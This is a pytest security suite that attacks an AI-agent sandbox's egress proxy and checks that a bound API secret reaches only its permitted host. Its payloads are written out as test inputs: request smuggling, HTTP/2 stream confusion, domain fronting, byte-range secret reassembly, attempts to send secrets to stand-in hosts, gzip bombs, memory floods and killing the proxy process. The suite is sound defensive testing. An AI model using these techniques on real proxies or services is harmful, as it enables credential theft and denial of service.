"""A hostile agent attacks the egress proxy from inside a real bottle.

One bottle (agent `attacker`; a second one, `fronter`, for `[egress] intercept = "all"` at the
end) whose bundle reaches a TLS echo upstream of ours on the test world's
outside network. The upstream has its own CA, trusted through `[egress] upstream_ca`, and answers
as both `secret.test` (bound to the secret) and `other.test` (allowed, not bound: a co-tenant on
the same front). It logs every request it receives (headers, TLS server name, port, body), so the
tests check where the real secret value actually went, not what the proxy says it did.

Every attack runs as the agent, with the agent image's own tools (curl, openssl s_client, node).
The bundle's memory is read from Docker before and after the resource attacks; the figures are
printed (run with ``-s`` to see them).
"""

from __future__ import annotations

import dataclasses
import json
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.bottle_fixtures import (
    BottleWorld,
    agent_exec,
    audit_log,
    one_agent_manifest,
    running_bottle,
    world_env,
    world_for,
)
from tests.bundle_helpers import echo_upstream
from tests.polling import wait_for

MANIFEST = one_agent_manifest(
    "attacker",
    """\
[bottles.default.egress]
# The test network is a private range, refused unless its address is listed too.
allow = ["secret.test:443", "other.test:443", "other.test:80", "{ip}/32:443", "{ip}/32:80"]
upstream_ca = "{ca}"

[bottles.default.secrets.API_TOKEN]
from_env = "BOTTLE_TEST_TOKEN"
hosts = ["secret.test:443"]
# Content-Encoding is a careless entry: the refusals behind `headers` stay tested.
headers = ["Authorization", "Content-Encoding"]
""",
)

MEMORY_BOUND = 100 * 1024 * 1024  # bytes a resource attack may add to the bundle's memory
MEMORY: dict[str, tuple[int, int]] = {}  # attack -> bundle memory (rss) before, after

# The proxy as `host:port` and an Authorization header with the agent's placeholder.
SHELL_PRELUDE = (
    'P=${HTTPS_PROXY#http://}; P=${P%/}; AUTH="Authorization: Bearer $API_TOKEN"; '
    "CURL='curl -sS -m 30 -x '$HTTPS_PROXY; "
)


@dataclasses.dataclass(frozen=True)
class Arena:
    world: BottleWorld
    record: Any
    upstream: Any
    bundle: Any
    secret: str
    audit_log: Path
    upstream_ip: str
    upstream_ca: Path  # the upstream's own CA, which the bottles' proxies trust

    def agent(self, script: str) -> tuple[int, str]:
        """Run a bash script in the sandbox as the agent: (exit code, output)."""
        return agent_exec(self.world, self.record, ["bash", "-c", SHELL_PRELUDE + script])

    def node(self, source: str, *args: str) -> dict[str, Any]:
        """Run a node script as the agent; it prints one JSON line last."""
        code, output = agent_exec(self.world, self.record, ["node", "-e", source, *args])
        assert code == 0, output
        parsed: dict[str, Any] = json.loads(output.strip().splitlines()[-1])
        return parsed

    def received(self) -> list[dict[str, Any]]:
        """Every request the upstream received, as it logged them."""
        logs = bytes(self.upstream.logs(stdout=True, stderr=False)).decode("utf-8", "replace")
        return [json.loads(line) for line in logs.splitlines() if line.startswith("{")]

    def audit(self) -> list[dict[str, Any]]:
        lines = self.audit_log.read_text().splitlines() if self.audit_log.exists() else []
        return [json.loads(line) for line in lines if line.strip()]

    def audit_bytes(self) -> int:
        return sum(p.stat().st_size for p in self.audit_log.parent.glob("egress.jsonl*"))

    def bundle_rss(self) -> int:
        """The bundle's resident memory (cgroup rss; page cache excluded), in bytes."""
        stats = self.bundle.stats(stream=False)["memory_stats"]
        detail = stats.get("stats", {})
        return int(detail.get("rss", detail.get("anon", stats.get("usage", 0))))


def _upstream_world(
    base: BottleWorld, directory: Path, template: str, ip: str, ca: Path
) -> BottleWorld:
    """`base` with the manifest `template`, its bundle resolving both of the upstream's names
    to the upstream (`ip`), whose CA is `ca`."""
    return world_for(
        base, directory, template, bundle_hosts=f"secret.test={ip},other.test={ip}", ca=ca, ip=ip
    )


@pytest.fixture(scope="module")
def arena(
    bottle_world: BottleWorld,
    docker_client: Any,
    bundle_image: str,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Arena]:
    directory = tmp_path_factory.mktemp("egress-attacks")
    try:
        with echo_upstream(
            docker_client,
            bundle_image,
            directory / "tls",
            names=["secret.test", "other.test"],
            network=bottle_world.outside.network,
            name=f"bbtest-echo-{uuid.uuid4().hex[:8]}",
        ) as upstream:
            ip = upstream.ip
            world = _upstream_world(bottle_world, directory, MANIFEST, ip, upstream.ca_cert)
            with running_bottle(world, "attacker") as record:
                bundle = docker_client.containers.get(record.bundle_name)
                yield Arena(
                    world,
                    record,
                    upstream.container,
                    bundle,
                    world.secret_value,
                    audit_log(world, record),
                    ip,
                    upstream.ca_cert,
                )
    finally:
        for attack, (before, after) in MEMORY.items():
            print(
                f"bundle memory (rss) around {attack}: {before / 2**20:.1f} MiB -> "
                f"{after / 2**20:.1f} MiB ({(after - before) / 2**20:+.1f} MiB)"
            )


def _status(output: str) -> int | None:
    """The status of the first HTTP response in `output` (after the tunnel's)."""
    for line in output.splitlines():
        # curl -i through the proxy shows the CONNECT's answer first.
        if line.startswith("HTTP/1.") and "Connection established" not in line:
            return int(line.split()[1])
    return None


# --------------------------------------------------------------------------- the controls


def test_the_bound_host_gets_the_real_value_and_the_agent_only_the_placeholder(
    arena: Arena,
) -> None:
    code, output = arena.agent('$CURL -H "$AUTH" https://secret.test/control')
    assert code == 0, output
    (seen,) = [r for r in arena.received() if r["path"] == "/control"]
    assert seen["headers"]["Authorization"] == f"Bearer {arena.secret}"
    assert (seen["sni"], seen["port"]) == ("secret.test", 443)
    # The upstream echoed the header back: the agent sees its placeholder, not the value.
    assert arena.secret not in output and "bbph_" in json.loads(output)["headers"]["Authorization"]


@pytest.mark.parametrize("mode", ["header", "encoded", "gzip", "chunked"])
def test_a_secret_echoed_by_the_bound_host_never_reaches_the_agent(arena: Arena, mode: str) -> None:
    """The bound host sends the value back: in a header and body, percent- and JSON-encoded,
    gzip-compressed although the agent asked for it, cut across the chunks of a 2 MiB stream."""
    code, output = arena.agent(
        f'$CURL -i --compressed -H "$AUTH" https://secret.test/reflect/{mode} > /tmp/reflected; '
        "head -c 2000 /tmp/reflected; echo; grep -o bbph_ /tmp/reflected | wc -l"
    )
    assert code == 0, output
    assert arena.secret not in output
    assert _status(output) == 200 and "X-Seen-Authorization: Bearer bbph_" in output
    assert int(output.strip().splitlines()[-1]) >= 2
    sent = [r for r in arena.received() if r["path"] == f"/reflect/{mode}"]
    assert sent and sent[-1]["headers"]["Authorization"] == f"Bearer {arena.secret}"


@pytest.mark.parametrize("mode", ["bad-header", "bad-status", "truncated-head"])
def test_an_unparseable_answer_quoting_the_secret_never_reaches_the_agent(
    arena: Arena, mode: str
) -> None:
    """mitmproxy's 502 page quotes the bytes its parser choked on: the bound host's garbage
    answer quoting the Authorization it was sent."""
    _, output = arena.agent(f'$CURL -i -H "$AUTH" https://secret.test/reflect/{mode}')
    assert _status(output) == 502 and "bbph_" in output, output
    assert arena.secret not in output
    assert arena.secret not in arena.audit_log.read_text()


def test_a_refusal_never_quotes_the_real_value_put_in_a_header(arena: Arena) -> None:
    """The placeholder as Content-Encoding (listed in the secret's headers): the proxy
    substitutes it, and its refusal of a body it cannot decode quoted the coding, so the agent
    read the real value in the 403 page."""
    _, output = arena.agent(
        '$CURL -i -H "Content-Encoding: $API_TOKEN" --data x https://secret.test/coding'
    )
    assert _status(output) == 403 and "body-not-inspectable" in output, output
    assert arena.secret.lower() not in output.lower()
    assert arena.secret.lower() not in arena.audit_log.read_text().lower()
    assert not [r for r in arena.received() if r["path"] == "/coding"]


@pytest.mark.parametrize(
    "header",
    ["X-Amz-Meta-Note: $API_TOKEN", 'Dropbox-API-Arg: {\\"path\\": \\"/$API_TOKEN\\"}'],
    ids=["x-amz-meta", "dropbox-api-arg"],
)
def test_a_header_the_bound_host_stores_never_carries_the_real_value(
    arena: Arena, header: str
) -> None:
    """The placeholder in a header the bound host keeps as data, read back from an allowed host
    the secret is not bound to (whose answers nothing scrubs): the proxy put the real value in
    every header, so the agent read it in clear. Only the secret's `headers` carry it now."""
    key = header.split(":")[0].lower()
    _, output = arena.agent(
        f'$CURL -i -H "{header}" https://secret.test/store/{key}; echo; '
        f"$CURL http://other.test/stored/{key}"
    )
    assert arena.secret not in output
    assert _status(output) == 403 and "secret-header-not-allowed" in output, output
    assert "to headers in [bottles.default.secrets.API_TOKEN] in bottle.toml" in output
    assert not [r for r in arena.received() if r["path"] == f"/store/{key}"]


def test_a_transfer_coded_answer_from_the_bound_host_is_refused(arena: Arena) -> None:
    """curl --tr-encoding asks for "TE: gzip" and inflates a gzip transfer coding itself;
    mitmproxy only de-chunks, so the compressed value passed the scrubber."""
    _, output = arena.agent('$CURL -i --tr-encoding -H "$AUTH" https://secret.test/reflect/te-gzip')
    assert arena.secret not in output
    assert _status(output) == 502 and "response-not-inspectable" in output, output


def test_a_compressed_stream_from_the_bound_host_is_refused(arena: Arena) -> None:
    _, output = arena.agent('$CURL -i -H "$AUTH" https://secret.test/reflect/gzip-stream')
    assert arena.secret not in output
    assert _status(output) == 502 and "response-not-inspectable" in output, output


def test_the_bound_hosts_echo_cannot_be_fetched_piece_by_piece(arena: Arena) -> None:
    """curl --range picks which bytes of the echo come back: the value four bytes at a time,
    no piece of which the scrubber can recognise, joined again in the bottle."""
    start = len("error: bad token Bearer ")
    _, output = arena.agent(
        f"for i in $(seq 0 4 {len(arena.secret) - 1}); do a=$(({start} + i)); "
        '$CURL -r "$a-$((a + 3))" -H "$AUTH" https://secret.test/reflect/range; done'
    )
    assert arena.secret not in "".join(output.split()), output
    assert "bbph_" in output, output


# --------------------------------------------------------------------------- one destination

H2_CONFUSION = r"""
const tls = require('tls'), http2 = require('http2');
const [host, port] = process.env.HTTPS_PROXY.replace('http://', '').replace(/\/$/, '').split(':');
const out = {alpn: null, status: null, body: '', error: null};
const finish = () => { console.log(JSON.stringify(out)); process.exit(0); };
setTimeout(() => { out.error = out.error || 'timeout'; finish(); }, 20000);
const sock = tls.connect({host, port: +port, ALPNProtocols: ['h2'], rejectUnauthorized: false,
                          servername: 'proxy.test'});
sock.on('error', e => { out.error = String(e); finish(); });
sock.on('close', () => { if (!out.alpn) { out.error = out.error || 'closed'; finish(); } });
sock.on('secureConnect', () => {
  out.alpn = sock.alpnProtocol || 'none';
  if (sock.alpnProtocol !== 'h2') { out.error = 'no h2'; finish(); return; }
  const session = http2.connect('http://proxy.test', {createConnection: () => sock});
  session.on('error', e => { out.error = String(e); finish(); });
  // Stream 1: a tunnel to the secret's host. Stream 3: plain HTTP elsewhere, with the placeholder.
  const tunnel = session.request({':method': 'CONNECT', ':authority': 'secret.test:443'});
  tunnel.on('error', () => {});
  const stolen = session.request({':method': 'GET', ':scheme': 'http', ':path': '/stolen',
      ':authority': 'other.test:80', authorization: 'Bearer ' + process.env.API_TOKEN},
      {endStream: true});
  stolen.on('response', h => { out.status = h[':status']; });
  stolen.on('data', d => { out.body += d; });
  stolen.on('end', finish);
  stolen.on('error', e => { out.error = String(e); finish(); });
});
"""


def test_h2_stream_confusion_never_sends_the_secret_elsewhere(arena: Arena) -> None:
    result = arena.node(H2_CONFUSION)
    stolen = [r for r in arena.received() if r["path"] == "/stolen"]
    assert not any(arena.secret in json.dumps(r) for r in stolen), stolen
    assert result["status"] is None and result["alpn"] != "h2", result  # no TLS to the proxy port
    assert any(e["rule"] == "tls-to-proxy" for e in arena.audit())


def _s_client(servername: str, request: str) -> str:
    """openssl s_client through the proxy's CONNECT to secret.test:443, with its own SNI."""
    return (
        f"printf '{request}' \"$API_TOKEN\" | timeout 30 openssl s_client -quiet "
        f"-proxy $P -connect secret.test:443 -servername {servername} 2>&1"
    )


# In one write inside the tunnel: a request whose body the bound host leaves unread (a head
# for the other tenant, whose Content-Length takes in what follows), then one with the value.
_SMUGGLED = "POST /log/unread HTTP/1.1\r\nHost: other.test\r\nContent-Length: 200\r\n\r\n"
_UNREAD_BODY_THEN_VALUE = (
    "GET /ignores-body/bottle HTTP/1.1\r\nHost: secret.test\r\n"
    f"Content-Length: {len(_SMUGGLED)}\r\n\r\n{_SMUGGLED}"
    "GET /after-unread-body HTTP/1.1\r\nHost: secret.test\r\nAuthorization: Bearer %s\r\n"
    f"X-Pad: {'p' * 300}\r\nConnection: close\r\n\r\n"
)


def test_a_body_the_bound_host_leaves_unread_never_frames_the_real_value(arena: Arena) -> None:
    """The host reads a body it leaves unread as the next request on its connection ("CL.0");
    the proxy sent the request with the value on that connection next, and the host read it
    as the body of the agent's request to the other tenant (test_egress_proxy_live.py)."""
    _, output = arena.agent(_s_client("secret.test", _shell_escaped(_UNREAD_BODY_THEN_VALUE)))
    assert arena.secret not in output
    # The host reads the smuggled head once the proxy has closed the connection it came on.
    smuggled = wait_for(
        lambda: [r for r in arena.received() if r["path"] == "/log/unread"] or None,
        "the smuggled head",
    )
    assert not any(arena.secret in json.dumps(r) for r in smuggled), smuggled
    (after,) = [r for r in arena.received() if r["path"] == "/after-unread-body"]
    assert after["headers"]["Authorization"] == f"Bearer {arena.secret}", after
    assert after["tenant"] == "secret.test", after


def _shell_escaped(request: str) -> str:
    """`request` as a printf format inside single quotes: CR LF written as escapes."""
    return request.replace("\r\n", "\\r\\n")


# Inside the tunnel to secret.test, a request whose other names (SNI, Host, an absolute URL)
# point elsewhere: the proxy refuses it by name, and the upstream sees nothing.
NAME_MISMATCHES = [
    pytest.param(
        _s_client(
            "other.test",
            "GET /sni HTTP/1.1\\r\\nHost: secret.test\\r\\nAuthorization: Bearer %s\\r\\n"
            "Connection: close\\r\\n\\r\\n",
        ),
        "/sni",
        "SNI",
        id="sni",
    ),
    pytest.param(
        '$CURL -i -H "$AUTH" -H "Host: other.test" https://secret.test/host',
        "/host",
        "Host",
        id="host-header",
    ),
    pytest.param(
        _s_client(
            "secret.test",
            "GET https://other.test/absolute HTTP/1.1\\r\\nHost: secret.test\\r\\n"
            "Authorization: Bearer %s\\r\\nConnection: close\\r\\n\\r\\n",
        ),
        "/absolute",
        "",  # its refusal names no one part
        id="absolute-form",
    ),
    # '¹' passes str.isdigit() and int() refuses it: the name check crashed, and mitmproxy
    # carried on as if it had passed, sending the real value on with the other host's name.
    pytest.param(
        "$CURL -i -H \"$AUTH\" -H $'Host: other.test:\\xc2\\xb9' https://secret.test/superscript",
        "/superscript",
        "Host",
        id="host-port-not-a-number",
    ),
]


@pytest.mark.parametrize(("script", "path", "named"), NAME_MISMATCHES)
def test_a_request_naming_another_host_is_refused(
    arena: Arena, script: str, path: str, named: str
) -> None:
    _, output = arena.agent(script)
    assert _status(output) == 403 and "name-mismatch" in output and named in output, output
    assert not [r for r in arena.received() if r["path"] == path]


def test_plain_http_with_the_bound_hosts_name_in_host_is_refused(arena: Arena) -> None:
    _, output = arena.agent('$CURL -i -H "$AUTH" -H "Host: secret.test" http://other.test/plain')
    assert _status(output) == 403, output
    assert "name-mismatch" in output or "secret-wrong-host" in output
    assert not [r for r in arena.received() if r["path"] == "/plain"]


@pytest.mark.parametrize(("scheme", "port"), [("https", 443), ("http", 80)])
def test_a_relayed_tunnel_never_reaches_another_site_on_the_front(
    arena: Arena, scheme: str, port: int
) -> None:
    """curl's --connect-to opens a tunnel to other.test (allowed, bound to no secret, relayed)
    and names stranger.test in it, in the TLS server name or the Host header: a shared front
    routing by that name would serve the agent's own site. The proxy closes the TLS one and
    refuses the plain request, and the audit log says so."""
    path = f"/fronted-{scheme}"
    _, output = arena.agent(
        f"$CURL -k -i --proxytunnel --connect-to stranger.test:{port}:other.test:{port} "
        f"{scheme}://stranger.test{path}"
    )
    assert not [r for r in arena.received() if r["path"] == path], output
    refused = [e for e in arena.audit() if e["rule"] == "name-mismatch" and e["port"] == port]
    assert any(e["host"] == "other.test" and e["decision"] == "deny" for e in refused), output


def test_a_request_without_a_host_goes_out_named_for_its_destination(arena: Arena) -> None:
    """Without a Host the upstream picks its default virtual host (on a shared front, maybe
    another tenant) for a request carrying the real value; the proxy names the destination."""
    _, output = arena.agent(
        _s_client("secret.test", "GET /hostless HTTP/1.0\\r\\nAuthorization: Bearer %s\\r\\n\\r\\n")
    )
    assert " 200 " in output and arena.secret not in output, output
    (seen,) = [r for r in arena.received() if r["path"] == "/hostless"]
    assert seen["headers"].get("Host") == "secret.test"


def test_an_upgraded_connection_from_the_bound_host_is_scrubbed(arena: Arena) -> None:
    """The bound host switches protocols (101) and quotes the handshake on the upgraded
    connection, where mitmproxy relays raw bytes past the HTTP hooks, in one WebSocket message
    whose two fragments cut the value (the proxy frames it anew: the placeholder follows in a
    frame of its own)."""
    _, output = arena.agent(
        _s_client(
            "secret.test",
            "GET /reflect/upgrade HTTP/1.1\\r\\nHost: secret.test\\r\\n"
            "Authorization: Bearer %s\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n",
        )
    )
    assert " 101 " in output, output
    assert arena.secret not in output
    assert "seen: Bearer " in output and "bbph_" in output.split(" 101 ", 1)[1], output
    sent = [r for r in arena.received() if r["path"] == "/reflect/upgrade"]
    assert sent and sent[-1]["headers"]["Authorization"] == f"Bearer {arena.secret}"


# --------------------------------------------------------------------------- resources

RAW_FLOOD = r"""
const net = require('net');
const [host, port] = process.env.HTTPS_PROXY.replace('http://', '').replace(/\/$/, '').split(':');
const mode = process.argv[1], total = +process.argv[2];
const head = mode === 'header'
  ? 'GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\nX-Big: '
  : 'POST http://denied.invalid/ HTTP/1.1\r\nHost: denied.invalid\r\n'
    + `Content-Length: ${total}\r\n\r\n`;
const chunk = Buffer.alloc(65536, 97);
let sent = 0, response = '', answered = false, error = null;
const sock = net.connect(+port, host);
// One chunk per turn of the event loop, so the proxy's early answer is read as soon as it
// arrives and the client stops sending.
const pump = () => {
  if (answered || sent >= total) return;
  sent += chunk.length;
  if (sock.write(chunk)) setImmediate(pump); else sock.once('drain', pump);
};
sock.on('connect', () => { sock.write(head); pump(); });
sock.on('data', d => {
  response += d;
  if (!answered && response.includes('\r\n\r\n')) {
    answered = true; setTimeout(() => sock.destroy(), 1000);
  }
});
sock.on('error', e => { error = String(e); });
sock.on('close', () => {
  console.log(JSON.stringify({sent, error, response: response.slice(0, 2000)}));
  process.exit(0);
});
setTimeout(() => sock.destroy(), 120000);
"""


def _measured(arena: Arena, attack: str, run: Any) -> Any:
    arena.agent("$CURL -o /dev/null https://other.test/warm-up")  # the proxy is warm before
    before = arena.bundle_rss()
    result = run()
    after = arena.bundle_rss()
    MEMORY[attack] = (before, after)
    assert after - before < MEMORY_BOUND, f"{attack}: bundle rss {before} -> {after} bytes"
    return result


def test_a_gzip_bomb_to_the_bound_host_gets_413_and_costs_the_bundle_little(arena: Arena) -> None:
    """256 MiB of zeros gzip to about 250 KiB: small enough to be buffered and inspected."""

    def run() -> tuple[int, str]:
        return arena.agent(
            "head -c 256M /dev/zero | gzip -9 > /tmp/bomb.gz && ls -l /tmp/bomb.gz && "
            '$CURL -i -H "$AUTH" -H "Content-Encoding: gzip" --data-binary @/tmp/bomb.gz '
            "https://secret.test/bomb; rm -f /tmp/bomb.gz"
        )

    _, output = _measured(arena, "gzip bomb (256 MiB inflated)", run)
    assert _status(output) == 413 and "decoded-body-limit" in output, output


def test_an_unending_request_head_gets_431_and_costs_the_bundle_little(arena: Arena) -> None:
    size = 128 * 1024 * 1024
    result = _measured(arena, "128 MiB header", lambda: arena.node(RAW_FLOOD, "header", str(size)))
    assert result["response"].startswith("HTTP/1.1 431"), result
    assert "request-head-limit" in result["response"]
    assert result["sent"] < size


def test_an_unending_response_head_gets_502_and_costs_the_bundle_little(arena: Arena) -> None:
    """One small request; the upstream (one the agent could control) answers with 128 MiB of
    headers, which mitmproxy would buffer whole."""
    size = 128 * 1024 * 1024

    def run() -> tuple[int, str]:
        return arena.agent(f"$CURL -i http://other.test/endless-head/{size} | head -c 2000")

    _, output = _measured(arena, "128 MiB response head", run)
    assert _status(output) == 502 and "response-head-limit" in output, output[:2000]


def test_a_huge_body_to_a_denied_host_gets_403_unread(arena: Arena) -> None:
    """The proxy answers 403 after 64 KiB of the body, stops reading it, and lingers: a client
    still writing reads the 403 instead of a reset (RFC 9112 9.6), and stops early."""
    size = 128 * 1024 * 1024
    result = _measured(
        arena, "128 MiB body to a denied host", lambda: arena.node(RAW_FLOOD, "body", str(size))
    )
    assert result["sent"] < size, result
    assert result["response"].startswith("HTTP/1.1 403"), result
    assert "default-deny" in result["response"]
    refused = [
        e
        for e in arena.audit()
        if e["method"] == "POST" and e["host"] == "denied.invalid" and e["decision"] == "deny"
    ]
    assert refused and refused[-1]["rule"] == "default-deny"


def test_audit_fields_cannot_amplify_the_log(arena: Arena) -> None:
    """50 requests with a 60 000-character method (under the head limit): each line capped."""
    before = arena.audit_bytes()
    _, output = arena.agent(
        "M=$(head -c 60000 /dev/zero | tr '\\0' X); "
        'for i in $(seq 50); do $CURL -o /dev/null -w "%{http_code}\\n" -X "$M" '
        "http://denied.invalid/; done | sort | uniq -c"
    )
    assert "50 403" in output, output
    growth = arena.audit_bytes() - before
    assert growth < 50 * 4096, f"50 requests grew the audit log by {growth} bytes"


# --------------------------------------------------------------------------- audit gaps

OPEN_TUNNEL = r"""
const net = require('net');
const [host, port] = process.env.HTTPS_PROXY.replace('http://', '').replace(/\/$/, '').split(':');
const sock = net.connect(+port, host);
let state = 'connect', sent = 0;
sock.on('connect', () =>
  sock.write('CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n'));
sock.on('data', d => {
  if (state === 'connect' && d.toString().startsWith('HTTP/1.1 200')) {
    state = 'open';
    const hello = Buffer.from('bytes through a tunnel whose proxy is about to die');
    sock.write(hello); sent += hello.length;
  }
});
sock.on('error', () => {});
sock.on('close', () => { console.log(JSON.stringify({state, sent})); process.exit(0); });
setTimeout(() => sock.destroy(), 60000);
"""


def _proxy_pids(bundle: Any) -> list[int]:
    """The egress proxy's process ids in the bundle (by its exact module name)."""
    code, output = bundle.exec_run(
        [
            "python3",
            "-c",
            "import os\n"
            "for p in os.listdir('/proc'):\n"
            "    if p.isdigit():\n"
            "        try: c = open(f'/proc/{p}/cmdline', 'rb').read().split(b'\\0')\n"
            "        except OSError: continue\n"
            "        if b'bottle_engine.bundle.egress' in c: print(p)\n",
        ]
    )
    assert code == 0, output
    return [int(pid) for pid in bytes(output).split()]


def test_a_tunnel_whose_proxy_is_killed_while_open_is_in_the_audit_log(arena: Arena) -> None:
    results: list[tuple[int, str]] = []
    client = threading.Thread(
        target=lambda: results.append(arena.agent(f"node -e {_quote(OPEN_TUNNEL)}")), daemon=True
    )
    client.start()
    deadline = time.monotonic() + 30
    opened: list[dict[str, Any]] = []
    while not opened and time.monotonic() < deadline:
        opened = [
            e
            for e in arena.audit()
            if e["host"] == "other.test" and e["port"] == 443 and e.get("stage") == "open"
        ]
        time.sleep(0.2)
    pids = _proxy_pids(arena.bundle)
    assert pids, "no egress proxy process in the bundle"
    for pid in pids:
        arena.bundle.exec_run(["kill", "-9", str(pid)])
    client.join(timeout=90)
    assert results and '"state":"open"' in results[0][1], results
    assert opened, "no open record for a tunnel that was open when its proxy died"
    assert opened[-1]["decision"] == "allow" and opened[-1]["kind"] == "tunnel"


def _quote(text: str) -> str:
    import shlex

    return shlex.quote(text)


def test_the_probe_command_runs_the_proxy_attacks_that_need_no_upstream(arena: Arena) -> None:
    from bottle_engine import lifecycle
    from bottle_engine.probes import ProbeTargets

    head, last = arena.record.bundle_ip.rsplit(".", 1)
    targets = ProbeTargets(bundle_ip=arena.record.bundle_ip, gateway_ip=f"{head}.{int(last) - 1}")
    with world_env(arena.world):
        report, leaks = lifecycle.probe(arena.record.slug, targets)
    proxy = {r.probe.name: r for r in report.results if r.probe.name.startswith("proxy-")}
    for name in (
        "proxy-refuses-tls-on-its-port",
        "proxy-bounds-request-head",
        "proxy-answers-a-refused-body-early",
    ):
        assert proxy[name].passed, (name, proxy[name].output)
    assert leaks == []


# --------------------------------------------------------------------------- every tunnel opened
# Domain fronting inside TLS: a shared front routes each request by the `Host` header inside the
# TLS, which the proxy sees only in a tunnel it opens. By default a tunnel to other.test (bound to
# no secret) is relayed once its TLS server name checks out, and `curl -k -H 'Host:
# stranger.test' https://other.test/` reaches the front as stranger.test; with `[egress]
# intercept = "all"` every HTTPS tunnel is opened and such a request is refused. The agent's own
# tools trust the opened tunnels (the bottle's CA), and protocols that are not TLS still pass.

OPENING_MANIFEST = one_agent_manifest(
    "fronter",
    """\
[bottles.default.egress]
# The test network is a private range, refused unless its address is listed too.
allow = ["other.test:443", "other.test:80", "{ip}/32:443", "{ip}/32:80"]
upstream_ca = "{ca}"
intercept = "all"
""",
)


@pytest.fixture(scope="module")
def opened(arena: Arena, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Arena]:
    """A second bottle (agent `fronter`) on the arena's upstream, whose proxy opens every
    HTTPS tunnel."""
    directory = tmp_path_factory.mktemp("egress-intercept-all")
    world = _upstream_world(
        arena.world, directory, OPENING_MANIFEST, arena.upstream_ip, arena.upstream_ca
    )
    with running_bottle(world, "fronter") as record:
        yield dataclasses.replace(
            arena, world=world, record=record, audit_log=audit_log(world, record)
        )


def _reached(arena: Arena, path: str) -> list[dict[str, Any]]:
    return [r for r in arena.received() if r["path"] == path]


def test_the_agents_tools_trust_an_opened_tunnel(opened: Arena) -> None:
    """curl without -k: the bottle's CA signs what the proxy shows, and the upstream gets the
    request under its own name."""
    _, output = opened.agent("$CURL -i https://other.test/trusted")
    assert _status(output) == 200, output
    (seen,) = _reached(opened, "/trusted")
    assert (seen["sni"], seen["headers"]["Host"]) == ("other.test", "other.test"), seen


def test_a_request_inside_tls_naming_another_site_goes_nowhere(opened: Arena) -> None:
    """Domain fronting: TLS to other.test (the tunnel's host, the server name checked), and
    inside it `Host: stranger.test`, the site a shared front would hand the request to."""
    _, output = opened.agent("$CURL -k -i -H 'Host: stranger.test' https://other.test/fronted")
    assert _status(output) == 403 and "name-mismatch" in output, output
    assert _reached(opened, "/fronted") == []
    refused = [e for e in opened.audit() if e["rule"] == "name-mismatch"]
    assert any(e["host"] == "other.test" and e["decision"] == "deny" for e in refused), output


def test_a_protocol_that_is_not_tls_still_passes(opened: Arena) -> None:
    """Only TLS is opened: a tunnel carrying another protocol (here the first line of SSH, to
    the upstream's port 80) is relayed, and the upstream's own answer comes back (Python's
    http.server naming the line it could not read), not one of the proxy's."""
    _, output = opened.agent(
        "exec 3<>/dev/tcp/${P%:*}/${P##*:}; "
        "printf 'CONNECT other.test:80 HTTP/1.1\\r\\nHost: other.test:80\\r\\n\\r\\n' >&3; "
        "sleep 1; printf 'SSH-2.0-OpenSSH_9.2p1\\r\\n' >&3; timeout 10 cat <&3"
    )
    assert "Bad request syntax" in output or "Bad request version" in output, output


# --------------------------------------------------------------------------- the verdict


def test_zz_the_real_value_reached_the_bound_host_only(arena: Arena) -> None:
    """Across every attack above (this test runs last): what the upstream received shows the
    real value only on TLS requests to secret.test:443 named secret.test."""
    carrying = [r for r in arena.received() if arena.secret in json.dumps(r)]
    assert carrying, "the control never delivered the real value"
    for request in carrying:
        assert (request["sni"], request["port"]) == ("secret.test", 443), request
        assert request["headers"]["Host"].split(":")[0] == "secret.test", request
        # The host a front routes it by (its first Host field), where a later one may differ.
        assert request["tenant"] == "secret.test", request
